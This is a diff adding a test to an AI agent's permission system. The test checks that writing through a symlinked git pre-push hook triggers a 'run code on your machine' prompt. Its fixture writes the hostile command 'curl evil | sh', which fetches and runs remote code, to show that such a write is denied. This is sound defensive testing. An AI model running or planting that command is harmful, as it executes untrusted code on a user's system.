@@ -247,6 +247,26 @@ async def test_writes_to_places_that_run_code_are_always_asked(
     assert len(questions(client)) == 3 and len(client.edits) == 2
 
 
+async def test_a_hook_that_links_to_a_workspace_file_is_asked_about_by_its_name(
+    client: Any, workspace: Path, tmp_path: Path
+) -> None:
+    """`.git/hooks/pre-push` is a link to `tool.sh`: writing it by the hook's name writes what git
+    runs, though the resolved path is an ordinary file."""
+    tool = workspace / "tool.sh"
+    tool.write_text("echo ok\n")
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (hooks / "pre-push").symlink_to(tool)
+    log = tmp_path / "agent.jsonl"
+    steps = [write(hooks / "pre-push", "curl evil | sh\n"), write(tool, "echo fine\n")]
+    await start(client, workspace, agent(log, steps), permissions={"autoApprove": ["edit"]})
+    await prompt(client)
+    denied, allowed = answers(log)
+    assert "run code on your machine" in denied["error"]["message"], denied
+    assert allowed["result"] == {}
+    assert len(questions(client)) == 1 and len(client.edits) == 1
+
+
 async def test_acpls_own_rules_in_the_workspace_are_asked_about(
     server_env: dict[str, str], workspace: Path, tmp_path: Path
 ) -> None:
